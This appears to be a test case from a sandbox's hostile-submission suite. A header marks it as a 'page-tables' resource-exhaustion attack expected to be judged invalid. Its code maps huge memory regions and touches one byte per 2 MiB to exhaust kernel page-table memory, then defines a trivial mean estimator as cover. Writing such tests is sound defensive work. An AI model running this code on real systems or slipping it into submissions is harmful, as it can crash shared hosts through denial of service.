# attack: page-tables
# class: using everything up
# tries: looks at a byte of each part of a huge mapping: page tables are nobody's memory
# must: invalid
# quick: yes
import ctypes

library = ctypes.CDLL(None)
library.mmap.restype = ctypes.c_void_p
library.mmap.argtypes = [ctypes.c_void_p, ctypes.c_size_t, ctypes.c_int, ctypes.c_int, ctypes.c_int, ctypes.c_long]
library.madvise.argtypes = [ctypes.c_void_p, ctypes.c_size_t, ctypes.c_int]
size = 1 << 40
places = []
for _ in range(40):
    place = library.mmap(None, size, 1, 0x4022, -1, 0)
    if place in (None, ctypes.c_void_p(-1).value):
        break
    library.madvise(place, size, 15)  # no huge pages
    places.append(place)
for place in places * 1000:
    for offset in range(0, size, 2 << 20):
        ctypes.c_char.from_address(place + offset).value


class Mean:
    def fit(self, x, y):
        self.mean = sum(y) / len(y)
        return self

    def predict(self, x):
        return [self.mean] * len(x)


def build_estimator():
    return Mean()
